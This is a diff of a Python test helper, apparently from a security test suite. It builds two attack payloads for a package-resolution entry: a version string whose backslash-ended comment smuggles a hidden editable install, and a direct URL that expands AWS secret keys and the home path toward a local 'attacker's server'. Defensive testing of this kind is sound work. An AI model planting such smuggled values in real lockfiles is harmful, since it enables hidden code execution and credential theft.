@@ -223,14 +223,13 @@ def plant_pins(entry: Path, **fields: str) -> None:
     path.write_text(json.dumps(data))
 
 
-def attacks(entry: Path, marker: Path, port: int, unpacked: Path | None = None) -> dict[str, dict[str, str]]:
-    """The two HIGH attacks of issue 22 on the resolution entry ``entry`` (the fields for :func:`plant_pins`): a
-    comment line ending in a backslash that hides an editable install of a folder planted in the entry, and a
-    direct URL that uv would expand with the reader's secrets. ``planted_backend`` is put in ``entry/src``;
-    ``unpacked``: where the reader's store would hold the entry (``entry`` itself for a local plant)."""
-    planted_backend(entry / "src", marker)
-    return {
-        "editable": {"version": f"1.0 # planted \\\n-e {unpacked or entry}/src\n#"},
-        "secret-url": {"url": f"http://127.0.0.1:{port}/x/${{AWS_SECRET_ACCESS_KEY}}/${{HOME}}/"
-                              "purepkg-1.0-py3-none-any.whl"},
-    }
+def attack_fields(kind: str, entry: Path, marker: Path, port: int, unpacked: Path | None = None) -> dict[str, str]:
+    """One of the two HIGH attacks of issue 22 on the resolution entry ``entry`` (the fields for
+    :func:`plant_pins`). ``editable``: a comment line ending in a backslash that hides an editable install of a
+    folder planted in the entry (``planted_backend`` in ``entry/src``; ``unpacked``: where the reader's store
+    would hold the entry, ``entry`` itself for a local plant). ``secret-url``: a direct URL that uv would expand
+    with the reader's secrets, on the attacker's server at ``port``."""
+    if kind == "editable":
+        planted_backend(entry / "src", marker)
+        return {"version": f"1.0 # planted \\\n-e {unpacked or entry}/src\n#"}
+    return {"url": f"http://127.0.0.1:{port}/x/${{AWS_SECRET_ACCESS_KEY}}/${{HOME}}/purepkg-1.0-py3-none-any.whl"}
